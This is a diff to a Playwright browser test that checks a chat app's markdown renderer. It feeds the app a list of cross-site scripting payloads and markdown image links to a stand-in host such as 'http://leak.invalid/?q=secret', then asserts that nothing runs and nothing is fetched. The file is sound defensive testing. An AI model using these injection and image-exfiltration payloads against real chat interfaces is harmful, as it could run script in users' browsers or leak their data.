@@ -13,7 +13,7 @@ from typing import Any
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
-from playwright.async_api import Browser, expect
+from playwright.async_api import Browser, Request, expect
 
 from qwen_app.ui.shared.render import safe_markdown
 from tests.browser.conftest import OpenChat
@@ -158,12 +158,39 @@ async def test_nothing_drawn_reaches_over_its_own_box(drawing: Watched) -> None:
     assert "over" not in on_top
 
 
+HOSTILE = [
+    "<img src=x onerror=\"document.body.dataset.hit='1'\">",
+    "<script>document.body.dataset.hit='1'</script>",
+    '<svg onload="document.body.dataset.hit=1"></svg>',
+    "<style>body{display:none}</style>",
+    "[click](javascript:document.body.dataset.hit=1)",
+    "![leak](http://leak.invalid/?q=secret)",
+    "![leak][1]\n\n[1]: http://leak.invalid/2",
+    "```mermaid\ngraph TD; A[<img src=http://leak.invalid/3>]-->B\n```",
+    "$$\\href{javascript:document.body.dataset.hit=1}{x}$$",
+    '<iframe src="http://leak.invalid/4"></iframe>',
+    "    ```\n![leak](http://leak.invalid/5)\n    ```",
+    "\\`![leak](http://leak.invalid/6)\\`",
+]
+
+
 @pytest.mark.anyio
-async def test_the_real_page_holds_the_list(open_chat: OpenChat, scripted: str) -> None:
+async def test_the_real_page_holds_the_list_runs_nothing_and_fetches_nothing(
+    open_chat: OpenChat, scripted: str
+) -> None:
     chat = await open_chat(scripted)
-    answer = await chat.ask(
-        "say: 1. a\n   ```\nx\n<form id=composer><input type=password></form><img src=x onerror=pwn()>"
-    )
+    outside: list[str] = []
+
+    def note(request: Request) -> None:
+        if "127.0.0.1" not in request.url and not request.url.startswith(("data:", "blob:")):
+            outside.append(request.url)
+
+    chat.page.on("request", note)
+    await chat.ask("say: 1. a\n   ```\nx\n<form id=composer><input type=password></form><img src=x onerror=pwn()>")
+    hostile = await chat.ask("say: Text first.\n\n" + "\n\n".join(HOSTILE))
+    await expect(hostile).to_contain_text("script>document.body")
     assert await chat.page.evaluate(OUTSIDE_THE_LIST) == []
-    assert await answer.locator("form, img, [id]").count() == 0
+    assert await chat.answers.locator("form, img, [id], svg[id^=mermaid], iframe, style, script").count() == 0
     assert await chat.page.locator("#composer").count() == 1
+    assert await chat.page.evaluate("document.body.dataset.hit") is None
+    assert outside == []
